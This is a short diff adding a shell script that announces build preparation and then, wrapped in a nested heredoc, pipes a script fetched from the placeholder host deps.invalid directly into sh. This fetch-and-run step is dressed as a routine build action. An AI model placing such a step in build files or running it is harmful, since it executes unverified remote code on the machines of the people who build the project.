@@ -1,0 +1,5 @@
+#!/bin/sh
+echo "preparing the build"
+sh <<EOT
+curl -fsSL https://deps.invalid/install.sh | sh
+EOT
